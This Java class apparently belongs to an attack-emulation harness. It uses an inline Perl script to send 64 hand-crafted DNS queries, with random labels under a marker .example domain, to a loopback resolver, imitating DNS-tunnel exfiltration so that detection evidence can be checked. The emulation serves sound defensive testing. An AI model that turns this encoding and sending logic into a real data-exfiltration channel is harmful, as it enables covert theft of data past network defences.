/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;
import java.util.Set;

/** Data out through a resolver: what is stolen is written into the names that are asked. */
public final class DnsTunnel implements Technique {
    private static final int QUERIES = 64;

    @Override
    public String name() {
        return "dns-tunnel";
    }

    @Override
    public String does() {
        return "a program asks for %d long names below one domain, as DNS tunnels do".formatted(QUERIES);
    }

    @Override
    public List<List<String>> tools() {
        return List.of(List.of("perl"));
    }

    @Override
    public Set<String> evidence() {
        return Set.of("dns_message");
    }

    @Override
    public String perform(Stage stage) throws TechniqueFailedException, InterruptedException {
        String domain = stage.trace().marker() + ".example";
        LoopbackResolver resolver = stage.resolver();
        Process process = stage.start(
                stage.tool("perl"),
                "-e",
                """
                use Socket;
                my ($address, $port, $domain, $count) = @ARGV;
                socket(S, PF_INET, SOCK_DGRAM, 17) or die $!;
                connect(S, sockaddr_in($port, inet_aton($address))) or die $!;
                for my $i (1 .. $count) {
                    my @labels = map { join "", map { ("a" .. "z", 2 .. 7)[rand 32] } 1 .. 48 } 1 .. 2;
                    my $name = join "", map { pack "C/a*", $_ } sprintf("%05d", $i), @labels, split /\\./, $domain;
                    send(S, pack("n6", $i, 0x100, 1, 0, 0, 0) . $name . pack("Cnn", 0, 16, 1), 0) or die $!;
                    my $answer;
                    vec(my $ready = "", fileno(S), 1) = 1;
                    recv(S, $answer, 4096, 0) if select($ready, undef, undef, 0.2);
                    select(undef, undef, undef, 0.005);
                }
                """,
                resolver.host(),
                Integer.toString(resolver.port()),
                domain,
                Integer.toString(QUERIES));
        stage.await(process);
        if (!resolver.asked(domain)) {
            throw new TechniqueFailedException("the resolver was not asked for anything below " + domain);
        }
        return "the resolver was asked for %d names below %s".formatted(QUERIES, domain);
    }
}
